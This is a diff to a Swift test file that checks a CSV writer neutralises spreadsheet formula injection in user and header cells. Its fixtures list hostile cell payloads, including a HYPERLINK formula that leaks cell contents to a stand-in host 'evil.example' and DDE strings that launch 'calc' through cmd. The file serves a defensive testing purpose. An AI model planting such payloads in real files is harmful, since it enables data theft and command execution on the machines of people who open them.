@@ -31,8 +31,9 @@ struct CSVWriterTests {
         }
         let records = try csvRecords(Array(text.utf8), chunkSize: 5)
         #expect(records.map(\.fields) == [header.columns + CSVOutputWriter.addedColumns] + inputs.map {
-            $0 + ["https://out.example/1.webp, https://out.example/2.webp", "done", ""]
+            $0.map(CSVWriter.neutralizingFormula) + ["https://out.example/1.webp, https://out.example/2.webp", "done", ""]
         })
+        #expect(records[2].fields[1] == "'-20% sale")
         #expect(text.hasSuffix("\r\n"))
     }
 
@@ -49,11 +50,37 @@ struct CSVWriterTests {
         #expect(CSVWriter.neutralizingFormula(value) == guarded)
     }
 
-    @Test("the pipeline's columns are guarded; the user's own columns come back unchanged")
+    /// Hostile input cells as a user's CSV might carry them, and the cell each must become.
+    static let hostileCells: [(input: String, cell: String)] = [
+        (#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#, #""'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")""#),
+        ("+cmd|' /C calc'!A0", #""'+cmd|' /C calc'!A0""#),
+        ("@SUM(1+9)*cmd|' /C calc'!A0", #""'@SUM(1+9)*cmd|' /C calc'!A0""#),
+        ("-2+3", #""'-2+3""#),
+        ("\t=1+1", "\"'\t=1+1\""),
+        ("\r=1+1", "\"'\r=1+1\""),
+    ]
+
+    @Test("every input cell a spreadsheet would read as a formula gets a leading ' and is quoted; it reads back as that text", arguments: hostileCells)
+    func hostileInputCell(input: String, cell: String) throws {
+        let header = try CSVHeader(columns: ["S. No.", "Product Name", "Input Image Urls", "Notes"])
+        let writer = CSVOutputWriter(header: header)
+        let line = writer.line(inputFields: ["1", input, "https://x.example/a.jpg", input], outputURLs: [], status: "done", error: "")
+        #expect(line == "1,\(cell),https://x.example/a.jpg,\(cell),,done,\r\n")
+        let fields = try #require(try csvRecords(Array(line.utf8)).first?.fields)
+        #expect(fields[1] == "'" + input && fields[3] == "'" + input)
+    }
+
+    @Test("header cells from the input file are guarded too")
+    func hostileHeader() throws {
+        let writer = CSVOutputWriter(header: try CSVHeader(columns: ["Product Name", "url", "=1+1"]))
+        #expect(writer.headerLine == "Product Name,url,\"'=1+1\",Output Image Urls,Status,Error\r\n")
+    }
+
+    @Test("the pipeline's columns are guarded as well as the user's")
     func guardedColumns() throws {
         let writer = CSVOutputWriter(header: try CSVHeader(columns: ["Product Name", "url"]))
         let line = writer.line(inputFields: ["=1+1", "https://x.example/a.jpg"], outputURLs: [], status: "failed", error: "=cmd|' /C calc'!A0")
         let fields = try csvRecords(Array(line.utf8)).first?.fields
-        #expect(fields == ["=1+1", "https://x.example/a.jpg", "", "failed", "'=cmd|' /C calc'!A0"])
+        #expect(fields == ["'=1+1", "https://x.example/a.jpg", "", "failed", "'=cmd|' /C calc'!A0"])
     }
 }
